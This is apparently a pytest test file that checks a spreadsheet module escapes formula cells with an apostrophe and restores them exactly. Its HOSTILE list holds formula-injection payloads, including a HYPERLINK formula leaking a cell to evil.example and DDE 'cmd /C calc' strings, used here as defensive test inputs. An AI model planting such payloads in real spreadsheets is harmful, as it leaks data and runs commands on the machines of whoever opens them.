"""Formula cells: what a spreadsheet would run, and an escape that reads back exactly (issue 30)."""

from __future__ import annotations

import pytest

from ambiforge.spreadsheet import formula, neutral, restore

HOSTILE = [
    '=HYPERLINK("http://evil.example/?leak="&A2,"Which one?")',
    "+cmd|' /C calc'!A0",
    "-cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1",
    "\r=1",
    '-2+3+cmd|"/C calc"!A0',
]
#: AmbiK's own cells: an intent's excluded material, a negative number, plain text.
PLAIN = ["-metal", "-metal, -plastic", "ceramic|glass, -metal", "-2", "Take the mug.", "", "'hello", "a=b", "'"]


@pytest.mark.parametrize("cell", HOSTILE)
def test_a_formula_gets_an_apostrophe(cell: str) -> None:
    assert formula(cell)
    assert neutral(cell) == "'" + cell and not formula(neutral(cell))


@pytest.mark.parametrize("cell", PLAIN)
def test_ambik_cells_stay_as_they_are(cell: str) -> None:
    assert neutral(cell) == cell and restore(cell) == cell


@pytest.mark.parametrize("cell", [*HOSTILE, *PLAIN, "'=1", "''=1", "'''+x", "'-a(b)"])
def test_the_escape_reads_back_exactly(cell: str) -> None:
    assert restore(neutral(cell)) == cell
    assert len({neutral(cell), neutral(restore(neutral(cell)))}) == 1
